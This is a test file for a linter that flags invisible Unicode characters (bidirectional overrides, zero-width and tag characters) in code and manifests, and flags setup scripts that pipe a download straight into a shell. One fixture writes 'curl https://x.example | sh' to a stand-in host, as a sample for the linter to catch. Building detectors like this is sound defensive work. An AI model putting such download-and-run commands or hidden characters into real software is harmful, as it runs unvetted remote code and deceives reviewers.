import { join } from 'node:path';
import { afterEach, beforeEach, expect, it } from 'vitest';
import {
  plainManifest,
  type TemporaryCapsules,
  temporaryCapsules,
} from '../../../test/setup/temporary-capsules.ts';
import { lintFiles } from './lint-files.ts';

let capsules: TemporaryCapsules;
let dir: string;
beforeEach(() => {
  capsules = temporaryCapsules();
  dir = capsules.writeCapsule('mine');
});
afterEach(() => capsules.remove());

const found = () =>
  lintFiles({ dir }).map(({ rule, severity, where }) => [
    rule,
    severity,
    where.slice(join(dir, '/').length),
  ]);

it('finds nothing in plain files with any line ends', () => {
  capsules.write('mine/main.py', '\ufeffprint("ünï 中文")\r\n\tpass\r\n');
  capsules.write('mine/icon.png', new Uint8Array([0, 1, 0xe2, 0x80, 0xae]));
  capsules.write('mine/cases/a.record.json', '"\u202e"');
  expect(found()).toEqual([]);
});

it.each([
  ['\u202e', 'right to left'],
  ['\u2066', 'an isolate'],
  ['\u200f', 'a mark'],
  ['\u200b', 'no width'],
  ['\u{e0041}', 'a tag'],
])('finds hidden characters in code and in the manifest: %j', (character) => {
  capsules.write('mine/lib/a.cjs', `one();\n// ${character}two();\n`);
  const manifest = { ...plainManifest('mine'), description: `Does${character} it.` };
  capsules.write('mine/manifest.json', JSON.stringify(manifest, undefined, 2));
  expect(found()).toEqual([
    ['capsule.invisible', 'warning', 'lib/a.cjs:2'],
    ['manifest.invisible', 'error', 'manifest.json:5'],
  ]);
});

it('finds them in the manifest as escapes, too', () => {
  const text = JSON.stringify({ ...plainManifest('mine'), name: 'a\tb\nc' });
  capsules.write('mine/manifest.json', text);
  expect(found()).toEqual([]);
  capsules.write('mine/manifest.json', text.replace('Does', 'Does\\u202E'));
  expect(found()).toEqual([['manifest.invisible', 'error', 'manifest.json:1']]);
});

it('finds commands that run what they download', () => {
  capsules.write('mine/setup.sh', '#!/bin/sh\ncurl https://x.example | sh\n');
  expect(found()).toEqual([['capsule.piped_shell', 'warning', 'setup.sh:2']]);
});
